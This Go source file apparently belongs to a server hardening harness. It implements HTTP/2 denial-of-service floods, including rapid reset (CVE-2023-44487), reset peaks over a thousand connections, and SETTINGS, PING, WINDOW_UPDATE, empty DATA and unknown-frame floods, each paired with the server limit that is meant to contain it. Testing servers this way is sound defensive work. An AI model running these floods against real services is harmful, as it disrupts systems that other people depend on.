package hostile

import (
	"context"
	"io"

	"golang.org/x/net/http2"
)

// floodAttacks are frames of HTTP/2 that cost the sender little, as fast as eight connections can
// send them.
func floodAttacks() []attack {
	row := func(name, how, bound string, reads bool, send func(p *peer, body []byte) error) attack {
		return attack{name: name, how: how, bound: bound, run: func(a *assault) { flood(a, reads, send) }}
	}
	return []attack{
		row("rapid_reset", "8 connections open streams and reset each at once, before it has a message (CVE-2023-44487)",
			"1024 streams of a connection, `--max-bytes-in-flight`", true, func(p *peer, _ []byte) error {
				if err := p.open(true); err != nil {
					return err
				}
				return p.WriteRSTStream(p.stream, http2.ErrCodeCancel)
			}),
		row("rapid_reset_of_requests", "8 connections send whole requests of 1000 descriptors, and reset each at once",
			"1024 streams of a connection, `--max-bytes-in-flight`", true, func(p *peer, body []byte) error {
				if err := p.send(body); err != nil {
					return err
				}
				return p.WriteRSTStream(p.stream, http2.ErrCodeCancel)
			}),
		{
			name:  "reset_peaks_of_many_connections",
			grpc:  "the room of past streams has no bound over all connections",
			how:   "1000 connections open 1000 streams each, reset them and stay open",
			bound: "`--max-bytes-in-flight`",
			run:   resetPeaks,
		},
		row("settings_flood", "8 connections send SETTINGS and never read the acknowledgements",
			"no frame is read while the client does not read; 10 seconds for a client that reads; points of frames without an answer", false, func(p *peer, _ []byte) error {
				return p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65_535})
			}),
		row("ping_flood", "8 connections send PING and never read the answers",
			"a ping each second, then GOAWAY", false, func(p *peer, _ []byte) error {
				return p.WritePing(false, [8]byte{1})
			}),
		row("window_flood", "8 connections send WINDOW_UPDATE",
			"no answer, no memory", true, func(p *peer, _ []byte) error {
				return p.WriteWindowUpdate(0, 1)
			}),
		row("empty_data_flood", "8 connections send empty DATA frames on one stream",
			"no answer, no memory", true, func(p *peer, _ []byte) error {
				if p.stream == 0 {
					if err := p.open(true); err != nil {
						return err
					}
				}
				return p.WriteData(p.stream, false, nil)
			}),
		row("unknown_frames", "8 connections send frames of a type that does not exist",
			"no answer, no memory", true, func(p *peer, _ []byte) error {
				return p.WriteRawFrame(0xbb, 0, 0, make([]byte, 1024))
			}),
	}
}

// flood sends frames on eight connections until the program closes each, and then on new
// connections.
func flood(a *assault, reads bool, send func(p *peer, body []byte) error) {
	body := a.thousand(0, 10)
	a.repeat(8, func(ctx context.Context) error {
		p, err := a.raw(ctx)
		if err != nil {
			return err
		}
		if reads {
			p.discard()
		}
		for ctx.Err() == nil {
			a.attempts.Add(1)
			if err := send(p, body); err != nil {
				return err
			}
		}
		return nil
	})
}

// resetPeaks opens and resets a thousand streams on one connection after the other, eight at a
// time, and keeps the connections.
func resetPeaks(a *assault) {
	const streams = 1000
	turns := make(chan struct{}, 8)
	a.repeat(1000, func(ctx context.Context) error {
		p, err := a.raw(ctx)
		if err != nil {
			return err
		}
		ended := make(chan struct{})
		go func() {
			defer close(ended)
			_, _ = io.Copy(io.Discard, p.Conn)
		}()
		turns <- struct{}{}
		err = func() error {
			defer func() { <-turns }()
			for range streams {
				a.attempts.Add(1)
				if err := p.open(true); err != nil {
					return err
				}
			}
			return p.reset(1)
		}()
		if err != nil {
			return err
		}
		<-ended // with ctx, or by the program
		return io.EOF
	})
}
